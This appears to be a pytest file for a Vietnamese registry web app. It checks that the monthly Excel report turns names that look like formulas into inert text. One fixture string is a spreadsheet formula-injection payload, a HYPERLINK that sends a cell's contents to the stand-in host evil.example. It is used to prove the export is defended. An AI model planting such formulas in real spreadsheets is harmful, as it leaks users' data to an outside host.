"""Files safe to open: the monthly report (built by the real page, from org units and posts
whose names look like formulas) opened with openpyxl has no formula cell and no cell that a
spreadsheet would evaluate. Tab and CR starts can no longer be typed in (the text rules refuse
them), so they are put in the database directly, as records from before those rules."""

from __future__ import annotations

import io

import sqlalchemy as sa
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from sqlalchemy.orm import Session

from registry.config import Settings
from registry.crypto import StaticKeyProvider
from registry.dates import today
from registry.org_units.service import create_org_unit
from registry.positions.models import Position
from registry.positions.service import create_position
from registry.xlsx import FORMULA_STARTS
from schemas.org_units import OrgUnitCreate
from schemas.positions import PositionCreate
from tests.factories import World, admin_ctx
from tests.web.conftest import sign_in

UNIT = '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")'
TITLES = ["+1 Phó Chủ tịch", "-1 Công chức", "@SUM(A1:A9)", "=1+1"]
LEGACY = {"\tPhó Bí thư": "CB-A", "\rBí thư": "CB-B"}


def risky_records(session: Session, settings: Settings, keys: StaticKeyProvider, w: World) -> None:
    ctx = admin_ctx(session, settings, keys)
    unit = create_org_unit(
        session,
        ctx,
        OrgUnitCreate(
            code="TO-X", name=UNIT, kind="specialised_office", parent_id=w.peoples_committee.id
        ),  # type: ignore[arg-type]
    )
    for title in TITLES:
        create_position(session, ctx, PositionCreate(org_unit_id=unit.id, title=title))
    for title, code in LEGACY.items():
        unit_id = w.cell_a.id if code == "CB-A" else w.cell_b.id
        session.execute(
            sa.update(Position).where(Position.org_unit_id == unit_id).values(title=title)
        )
    session.commit()


def test_monthly_report_has_no_formula_cells(
    web: TestClient, world: World, session: Session, settings: Settings, keys: StaticKeyProvider
) -> None:
    risky_records(session, settings, keys, world)
    assert sign_in(web, "admin").status_code == 303
    month = today().strftime("%Y-%m")
    r = web.get(f"/reports/monthly?month={month}&format=xlsx")
    assert r.status_code == 200, r.text[:500]
    book = load_workbook(io.BytesIO(r.content))
    texts: list[str] = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), (ws.title, cell.coordinate)
                    texts.append(cell.value)
    # The risky names did reach the file (as inert text), so the check above saw them.
    shown = " ".join(texts)
    assert "HYPERLINK" in shown, "the unit's name is not in the report: the test proves nothing"
    missing = [t for t in [*TITLES, *LEGACY] if t.strip() not in shown]
    assert not missing, missing


def test_the_check_sees_a_formula_written_raw() -> None:
    """Written without ``registry.xlsx``, the unit's name is a live formula: the check above
    would fail on it."""
    book = Workbook()
    ws = book.active
    assert ws is not None
    ws.append([UNIT, "+1"])
    out = io.BytesIO()
    book.save(out)
    cell = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]["A1"]
    assert cell.data_type == "f"
